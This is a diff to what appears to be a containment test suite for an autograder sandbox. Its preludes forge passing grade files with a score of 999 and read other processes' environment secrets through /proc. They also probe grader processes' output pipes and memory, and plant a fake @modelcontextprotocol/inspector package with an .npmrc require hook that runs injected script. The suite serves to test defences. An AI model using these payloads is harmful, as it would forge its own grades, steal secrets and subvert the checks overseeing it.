@@ -66,7 +66,7 @@ for _pid in _grader_chain():
 
 
 # The attacks also made from model.py: the model runner is forked by the class's zygote and
-# joins its sandbox (lab/sandbox_entry.py), a path of its own to show contained.
+# joins its sandbox (lab/process/sandbox_entry.py), a path of its own to show contained.
 FROM_MODEL = ("forge", "secrets", "snoop", "linger", "killer", "stopper", "writer", "loopback")
 
 
@@ -249,8 +249,9 @@ def gradescope_fallback_prelude(secret: Path) -> str:
     lab-student, unsandboxed), all from server.py: in every folder named on a command line or
     serving as a working folder of a process it can see, a passing results.json (and verdict)
     made read-only, or one made a link to `secret`, a file of root's; a passing verdict written
-    by reopening every descriptor 3 it finds; and every environment value holding MARK printed
-    (the feedback then shows it as what the server printed)."""
+    by reopening every descriptor 3 it finds; every kit process of its uid whose report pipe
+    (fd 1) or memory it can open, printed as REACHED; and every environment value holding MARK
+    printed (the feedback then shows it as what the server printed)."""
     forged = {"score": 999, "output": FORGED, "tests": [{"name": FORGED, "score": 999, "max_score": 1}]}
     return LEAK + f"""
 import os as _o, json as _j
@@ -271,6 +272,17 @@ for _pid in _o.listdir('/proc'):
         pass
     try:
         _leak('environ', open(f'/proc/{{_pid}}/environ', 'rb').read())
+    except OSError:
+        pass
+    try:  # a kit process of this uid: its report pipe and its memory, the ways to steer it
+        _args = open(f'/proc/{{_pid}}/cmdline', 'rb').read().split(b'\\0')
+        if int(_pid) != _o.getpid() and any(_a in (b'check', b'grade', b'gradescope-run') or b'preloader' in _a for _a in _args):
+            for _what, _mode in (('fd/1', 'ab'), ('mem', 'rb')):
+                try:
+                    open(f'/proc/{{_pid}}/{{_what}}', _mode).close()
+                    print('REACHED', _what, _pid, _args[-6:], flush=True)
+                except OSError:
+                    pass
     except OSError:
         pass
 _leak('own-environ', '\\n'.join(f'{{_k}}={{_v}}' for _k, _v in _o.environ.items()))
@@ -310,23 +322,28 @@ def planted_inspector_prelude(marker: Path) -> str:
     return BY_A_REAL_CLIENT + f"""
 import json as _j
 _here = _o.path.dirname(_o.path.abspath(__file__))
-_package = _o.path.join(_here, 'node_modules', '@modelcontextprotocol', 'inspector')
-_o.makedirs(_o.path.join(_package, 'cli', 'build'), exist_ok=True)
-_o.makedirs(_o.path.join(_here, 'node_modules', '.bin'), exist_ok=True)
-with open(_o.path.join(_package, 'package.json'), 'w') as _f:
-    _j.dump({{'name': '@modelcontextprotocol/inspector', 'version': '99.0.0',
-             'bin': {{'mcp-inspector': 'cli/build/cli.js'}}}}, _f)
-for _path in (_o.path.join(_package, 'cli', 'build', 'cli.js'), _o.path.join(_here, 'x.js')):
-    with open(_path, 'w') as _f:
-        _f.write('#!/usr/bin/env node\\n' + {script!r})
-    _o.chmod(_path, 0o755)
-_link = _o.path.join(_here, 'node_modules', '.bin', 'mcp-inspector')
-if not _o.path.lexists(_link):
-    _o.symlink('../@modelcontextprotocol/inspector/cli/build/cli.js', _link)
-with open(_o.path.join(_here, '.npmrc'), 'w') as _f:
-    _f.write('node-options=--require=./x.js\\n')
-with open(_o.path.join(_here, 'package.json'), 'w') as _f:
-    _j.dump({{'name': 'x', 'dependencies': {{'@modelcontextprotocol/inspector': '99.0.0'}}}}, _f)
+def _plant():
+    _package = _o.path.join(_here, 'node_modules', '@modelcontextprotocol', 'inspector')
+    _o.makedirs(_o.path.join(_package, 'cli', 'build'), exist_ok=True)
+    _o.makedirs(_o.path.join(_here, 'node_modules', '.bin'), exist_ok=True)
+    with open(_o.path.join(_package, 'package.json'), 'w') as _f:
+        _j.dump({{'name': '@modelcontextprotocol/inspector', 'version': '99.0.0',
+                 'bin': {{'mcp-inspector': 'cli/build/cli.js'}}}}, _f)
+    for _path in (_o.path.join(_package, 'cli', 'build', 'cli.js'), _o.path.join(_here, 'x.js')):
+        with open(_path, 'w') as _f:
+            _f.write('#!/usr/bin/env node\\n' + {script!r})
+        _o.chmod(_path, 0o755)
+    _link = _o.path.join(_here, 'node_modules', '.bin', 'mcp-inspector')
+    if not _o.path.lexists(_link):
+        _o.symlink('../@modelcontextprotocol/inspector/cli/build/cli.js', _link)
+    with open(_o.path.join(_here, '.npmrc'), 'w') as _f:
+        _f.write('node-options=--require=./x.js\\n')
+    with open(_o.path.join(_here, 'package.json'), 'w') as _f:
+        _j.dump({{'name': 'x', 'dependencies': {{'@modelcontextprotocol/inspector': '99.0.0'}}}}, _f)
+try:  # a sandboxed folder is read-only: then nothing is planted, and the server goes on
+    _plant()
+except OSError:
+    pass
 """
 
 
